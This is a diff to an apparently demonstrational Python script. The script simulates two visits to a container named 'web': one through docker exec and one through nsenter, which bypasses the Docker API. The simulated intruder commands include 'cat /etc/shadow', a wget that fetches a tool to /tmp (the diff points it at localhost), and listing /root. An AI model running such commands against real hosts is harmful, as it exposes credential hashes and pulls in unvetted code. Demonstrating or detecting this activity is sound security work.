@@ -72,7 +72,7 @@ def _demo() -> int:
 
 def _visit(docker: Dockerd) -> None:
     print("\nVisit 1: docker exec, with a shell on a terminal", flush=True)
-    typed = ["id", "cat /etc/shadow", "wget -T 1 -O /tmp/tool http://192.0.2.1/tool", "exit"]
+    typed = ["id", "cat /etc/shadow", "wget -T 1 -O /tmp/tool http://127.0.0.1:9/tool", "exit"]
     type_into(docker.command("exec", "-it", "web", "/bin/sh"), typed)
     print("Visit 2: nsenter, past the Docker API", flush=True)
     enter = f"nsenter -t {docker.init_pid('web')} -a /bin/sh -c 'id; ls /root'"
